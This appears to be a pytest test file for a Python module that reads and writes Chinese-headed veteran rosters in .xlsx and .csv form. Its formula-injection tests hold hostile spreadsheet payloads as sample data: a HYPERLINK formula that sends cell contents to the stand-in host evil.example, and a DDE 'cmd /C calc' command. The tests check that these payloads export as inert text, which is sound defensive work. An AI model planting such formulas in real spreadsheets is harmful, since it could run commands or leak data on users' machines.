"""Tests of veterans.tabular: .xlsx and .csv tables with Chinese headers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from sync.engine.errors import ValidationError
from veterans.tabular import read_table, write_table

COLUMNS = [("name", "姓名"), ("id_number", "身份证号"), ("born", "出生日期"), ("note", "备注"), ("n", "人数")]
ROWS = [
    {"name": "张三", "id_number": "44090219800101001X", "born": dt.date(1980, 1, 1), "note": "光荣牌已悬挂", "n": 3},
    {"name": "李四", "id_number": "440902198502020023", "born": None, "note": "=1+1 不是公式", "n": None},
    {"name": "王五（退役士兵）", "id_number": "440902199003030034", "born": dt.date(1990, 3, 3)},
]


def test_xlsx_round_trip(tmp_path):
    path = write_table(tmp_path / "名册.xlsx", COLUMNS, ROWS, sheet="花名册")
    headers, rows = read_table(path)
    assert headers == ["姓名", "身份证号", "出生日期", "备注", "人数"]
    assert [line for line, _ in rows] == [2, 3, 4]
    first = rows[0][1]
    assert first == {"姓名": "张三", "身份证号": "44090219800101001X", "出生日期": dt.date(1980, 1, 1), "备注": "光荣牌已悬挂", "人数": 3}
    assert type(first["出生日期"]) is dt.date
    assert rows[1][1]["备注"] == "=1+1 不是公式"  # text, never turned into a formula
    assert rows[1][1]["出生日期"] is None and rows[2][1]["备注"] is None

    from openpyxl import load_workbook

    ws = load_workbook(path).worksheets[0]
    assert ws.title == "花名册"
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold
    assert ws.column_dimensions["B"].width >= 18  # 18-character ID numbers fit


def test_csv_round_trip_with_bom(tmp_path):
    path = write_table(tmp_path / "名册.csv", COLUMNS, ROWS)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    headers, rows = read_table(path)
    assert headers == [h for _, h in COLUMNS]
    assert rows[0] == (2, {"姓名": "张三", "身份证号": "44090219800101001X", "出生日期": "1980-01-01", "备注": "光荣牌已悬挂", "人数": "3"})
    assert rows[1][1]["出生日期"] is None


def test_gbk_csv_and_line_numbers(tmp_path):
    text = "姓名,身份证号,住址\r\n 张三 ,44090219800101001X,广东省茂名市\r\n,,\r\n\r\n李四,440902198502020023,\"茂南区\r\n某村\"\r\n王五,440902199003030034,高州\r\n"
    path = tmp_path / "gbk.csv"
    path.write_bytes(text.encode("gbk"))
    headers, rows = read_table(path)
    assert headers == ["姓名", "身份证号", "住址"]
    assert [(line, r["姓名"]) for line, r in rows] == [(2, "张三"), (5, "李四"), (7, "王五")]
    assert rows[1][1]["住址"] == "茂南区\r\n某村"


def test_xlsx_line_numbers_skip_empty_rows(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", None, "类别"])
    ws.append([" 张三\u3000", None, "退役士兵"])
    ws.append([None, None, None])
    ws["A5"] = "李四"
    ws["D5"] = "无表头的列被忽略"
    path = tmp_path / "gap.xlsx"
    wb.save(path)
    headers, rows = read_table(path)
    assert headers == ["姓名", "类别"]
    assert rows == [(2, {"姓名": "张三", "类别": "退役士兵"}), (5, {"姓名": "李四", "类别": None})]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("garbage.xlsx", b"\x00\x01not a zip at all\xff" * 20),
        ("empty.xlsx", b""),
        ("empty.csv", b""),
        ("blank.csv", b" , \r\n\r\n"),
        ("binary.csv", b"PK\x03\x04\x00\x00garbage"),
        ("roster.xls", b"\xd0\xcf\x11\xe0"),
        ("roster.txt", b"a,b"),
    ],
)
def test_malformed_files(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ValidationError) as err:
        read_table(path)
    message = str(err.value)
    assert name in message and "\n" not in message


def test_missing_file_and_duplicate_header(tmp_path):
    with pytest.raises(ValidationError, match="找不到文件"):
        read_table(tmp_path / "nope.csv")
    path = tmp_path / "dup.csv"
    path.write_text("姓名,姓名\n张三,李四\n", encoding="utf-8")
    with pytest.raises(ValidationError, match="重复"):
        read_table(path)


def test_write_refuses_unknown_suffix(tmp_path):
    with pytest.raises(ValidationError, match="不支持的文件类型"):
        write_table(tmp_path / "out.txt", COLUMNS, ROWS)
    assert not list(tmp_path.iterdir())


def test_write_replaces_existing_file(tmp_path):
    path = tmp_path / "r.csv"
    write_table(path, COLUMNS, ROWS)
    write_table(path, COLUMNS, ROWS[:1])
    assert len(read_table(path)[1]) == 1
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no temporary file left behind


# --------------------------------------------------------------------------- formula injection

DANGEROUS = ['=HYPERLINK("http://evil.example","点我")', "@SUM(A1)", "+1", "-2+3", "\t=1+1", "\r=1+1"]
COLS = [("v", "值")]


def _csv_rows(path) -> list[list[str]]:
    """The raw cells of a CSV file, as a spreadsheet program gets them (no unquoting of ours)."""
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _csv_cells(path) -> list[str]:
    return [row[0] for row in _csv_rows(path)[1:]]


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_neutralises_formula_prefixes(tmp_path, value):
    path = write_table(tmp_path / "x.csv", COLS, [{"v": value}])
    cells = _csv_cells(path)
    assert cells == ["'" + value]  # what Excel/WPS sees: text starting with a quote, never a formula
    _, rows = read_table(path)
    assert rows[0][1]["值"] == value.strip()  # our own export reads back as it was (whitespace stripped as always)


@pytest.mark.parametrize("value", DANGEROUS)
def test_xlsx_keeps_formula_prefixes_as_text(tmp_path, value):
    from openpyxl import load_workbook

    path = write_table(tmp_path / "x.xlsx", COLS, [{"v": value}])
    cell = load_workbook(path).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\n")  # unchanged (XML turns a CR into LF), no quote added
    with zipfile.ZipFile(path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")


def test_ordinary_text_and_numbers_untouched(tmp_path):
    rows = [
        {"v": "张三"}, {"v": "a=b"}, {"v": " 前导空格"}, {"v": "'已有引号"}, {"v": "13800138000"},
        {"v": -5.0}, {"v": -3}, {"v": 0}, {"v": dt.date(2024, 8, 1)},
    ]
    csv_path = write_table(tmp_path / "x.csv", COLS, rows)
    assert _csv_cells(csv_path) == ["张三", "a=b", " 前导空格", "'已有引号", "13800138000", "-5.0", "-3", "0", "2024-08-01"]
    _, back = read_table(csv_path)
    assert [r["值"] for _, r in back][:5] == ["张三", "a=b", "前导空格", "'已有引号", "13800138000"]

    from openpyxl import load_workbook

    xlsx_path = write_table(tmp_path / "x.xlsx", COLS, rows)
    cells = load_workbook(xlsx_path).worksheets[0]["A"][1:]
    assert [c.value for c in cells[:5]] == ["张三", "a=b", " 前导空格", "'已有引号", "13800138000"]
    assert all(c.data_type == "s" for c in cells[:5])
    assert [(c.value, c.data_type) for c in cells[5:8]] == [(-5.0, "n"), (-3, "n"), (0, "n")]


def test_csv_round_trip_does_not_grow_quotes(tmp_path):
    value = "=1+1"
    path = tmp_path / "x.csv"
    for _ in range(3):
        write_table(path, COLS, [{"v": value}])
        value = read_table(path)[1][0][1]["值"]
    assert value == "=1+1" and _csv_cells(path) == ["'=1+1"]


def test_station_export_neutralises_synced_text(tmp_path):
    """End to end through the real ``station-node`` console script: hostile text
    in a veteran's name, address and note exports as text, never a formula."""
    from openpyxl import load_workbook

    from veterans.values import id_number_check_digit

    exe = Path(sys.executable).parent / "station-node"
    if not exe.exists():
        pytest.skip("console script not installed next to this interpreter")
    home = tmp_path / "st"

    def call(*args: str) -> str:
        proc = subprocess.run([str(exe), *args, "--home", str(home)], capture_output=True, text=True, timeout=60,
                              stdin=subprocess.DEVNULL)
        assert proc.returncode == 0, proc.stderr
        return proc.stdout

    name, address, note = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")', "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"
    body = "44090219600101001"
    call("init", "--station", "440902001", "--offline")
    call("veteran", "add", "--id-number", body + id_number_check_digit(body), "--name", name,
         "--area", "440902001001", "--set", f"住址={address}", "--set", f"备注={note}")

    call("export", str(tmp_path / "名册.csv"))
    header, row = _csv_rows(tmp_path / "名册.csv")
    cell = dict(zip(header, row))
    assert (cell["姓名"], cell["住址"], cell["备注"]) == ("'" + name, "'" + address, "'" + note)

    call("export", str(tmp_path / "名册.xlsx"))
    ws = load_workbook(tmp_path / "名册.xlsx").worksheets[0]
    headings = [c.value for c in ws[1]]
    cells = {h: ws.cell(row=2, column=i + 1) for i, h in enumerate(headings)}
    for heading, value in (("姓名", name), ("住址", address), ("备注", note)):
        assert cells[heading].data_type == "s" and cells[heading].value == value

    # the export re-imports as unchanged: no quote grows on the way back
    result = json.loads(call("import", str(tmp_path / "名册.csv"), "--json"))
    assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 1), result


# --------------------------------------------------------------------------- rosters as they are (open_table)

KNOWN = {"姓名", "身份证号", "入伍时间", "退役时间", "序号"}


def known(heading: str) -> bool:
    return heading in KNOWN


def _xlsx(tmp_path, rows, name="t.xlsx", formats=None):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    for ref, fmt in (formats or {}).items():
        ws[ref].number_format = fmt
    path = tmp_path / name
    wb.save(path)
    return path


def test_open_table_finds_the_header_below_titles(tmp_path):
    from veterans.tabular import open_table

    path = _xlsx(tmp_path, [["某镇退役军人花名册"], [], ["填报单位：某村", None, "2024年"],
                            ["序号", "姓 名", "身份证\n号码 ", "籍贯"], [1, 2, 3, 4], ["1", "张三", "X1", "广东"],
                            ["序号", "姓 名", "身份证\n号码", "籍贯"], [2, "李四", "X2", None], ["合计", "2人"]])

    def skip(cells):
        return "合计行" if cells[0] == "合计" else None

    with open_table(path, known=lambda h: h in {"姓名", "序号", "身份证号码"}, skip=skip) as table:
        assert (table.headers, table.header_line) == (["序号", "姓名", "身份证号码", "籍贯"], 4)
        rows = list(table)
        assert table.skipped == [(5, "列序号"), (7, "重复的表头"), (9, "合计行")]
    assert rows == [(6, {"序号": "1", "姓名": "张三", "身份证号码": "X1", "籍贯": "广东"}),
                    (8, {"序号": 2, "姓名": "李四", "身份证号码": "X2", "籍贯": None})]


def test_open_table_two_header_rows(tmp_path):
    from veterans.tabular import open_table

    path = _xlsx(tmp_path, [["名册"], ["序号", "姓名", "服役情况", None, "备考"], [None, None, "入伍时间", "退役时间", None],
                            [1, "张三", "1983.12", "1987.12", None]])
    with open_table(path, known=known) as table:
        assert (table.headers, table.header_line) == (["序号", "姓名", "入伍时间", "退役时间", "备考"], 3)
        assert list(table) == [(4, {"序号": 1, "姓名": "张三", "入伍时间": "1983.12", "退役时间": "1987.12", "备考": None})]


def test_open_table_without_a_known_heading_takes_the_first_row(tmp_path):
    from veterans.tabular import open_table

    path = _xlsx(tmp_path, [[], ["甲", "乙"], ["1", "2"]])
    with open_table(path, known=known) as table:
        assert (table.headers, table.header_line, list(table)) == (["甲", "乙"], 2, [(3, {"甲": "1", "乙": "2"})])


def test_read_table_is_unchanged_by_the_roster_rules(tmp_path):
    """The plain reader (reports, mapping files) takes the first row as header and passes nothing over."""
    path = _xlsx(tmp_path, [["甲", "乙", "丙"], [1, 2, 3], ["甲", "乙", "丙"]])
    assert read_table(path) == (["甲", "乙", "丙"], [(2, {"甲": 1, "乙": 2, "丙": 3}), (3, {"甲": "甲", "乙": "乙", "丙": "丙"})])


def test_month_formatted_date_cells_read_as_months(tmp_path):
    path = _xlsx(tmp_path, [["a", "b", "c", "d"],
                            [dt.datetime(1983, 12, 1), dt.datetime(1983, 12, 1), dt.datetime(1983, 12, 5), dt.datetime(1983, 12, 1, 8, 30)]],
                 formats={"A2": 'yyyy"年"m"月"', "B2": "yyyy.mm", "C2": "yyyy/m/d", "D2": "yyyy-mm-dd hh:mm"})
    _, rows = read_table(path)
    assert rows[0][1] == {"a": "1983-12", "b": "1983-12", "c": dt.date(1983, 12, 5), "d": dt.datetime(1983, 12, 1, 8, 30)}


def test_csv_digits_excel_would_eat_get_a_tab(tmp_path):
    values = ["440902196503120071", "44090219800101001X", "440902001001", "440902001", "13800138000", "07591234567",
              "0", "0759-1234567", 440902001001]
    path = write_table(tmp_path / "x.csv", COLS, [{"v": v} for v in values])
    assert _csv_cells(path) == ["\t440902196503120071", "44090219800101001X", "\t440902001001", "440902001",
                                "13800138000", "\t07591234567", "0", "0759-1234567", "440902001001"]
    _, rows = read_table(path)
    assert [r["值"] for _, r in rows] == [str(v) for v in values]


def test_write_table_takes_a_generator(tmp_path):
    """Rows may come from a generator, consumed once, in order (that the memory does not
    grow with them is tests/test_ledgers.py's memory test)."""
    pulled = []

    def rows(n):
        for i in range(n):
            pulled.append(i)
            yield {"v": f"行{i}"}

    for suffix in (".csv", ".xlsx"):
        pulled.clear()
        path = write_table(tmp_path / f"s{suffix}", COLS, rows(5000))
        assert pulled == list(range(5000))
        headers, back = read_table(path)
        assert len(back) == 5000 and back[-1] == (5001, {"值": "行4999"})


def test_highlight_shades_marked_rows(tmp_path):
    from openpyxl import load_workbook

    cols = [("err", "错误"), ("v", "值")]
    path = write_table(tmp_path / "h.xlsx", cols, [{"err": "不对", "v": 1}, {"v": 2}], highlight="err")
    ws = load_workbook(path).worksheets[0]
    assert ws.auto_filter.ref == "A1:B1"
    assert ws["A2"].fill.fgColor.rgb == ws["B2"].fill.fgColor.rgb == "FFFFC7CE"
    assert ws["A3"].fill.fgColor.rgb != "FFFFC7CE"


def test_open_table_two_header_rows_the_lower_with_more_headings(tmp_path):
    """基本情况 and 服役情况 merged over most columns: the lower row has more headings than the
    upper, whose 序号 and 姓名 are merged down."""
    from veterans.tabular import open_table

    path = _xlsx(tmp_path, [["名册"], ["序号", "姓名", "基本情况", None, "服役情况", None],
                            [None, None, "身份证号", "籍贯", "入伍时间", "退役时间"],
                            [1, "张三", "X1", "广东", "1983.12", "1987.12"]])
    with open_table(path, known=known) as table:
        assert (table.headers, table.header_line) == (["序号", "姓名", "身份证号", "籍贯", "入伍时间", "退役时间"], 3)
        assert [line for line, _ in table] == [4]
    # a title that happens to be a heading is no upper header row: it stands over a heading
    path = _xlsx(tmp_path, [["姓名"], ["姓名", "身份证号"], ["张三", "X1"]], name="t2.xlsx")
    with open_table(path, known=known) as table:
        assert (table.headers, table.header_line, list(table)) == (["姓名", "身份证号"], 2, [(3, {"姓名": "张三", "身份证号": "X1"})])
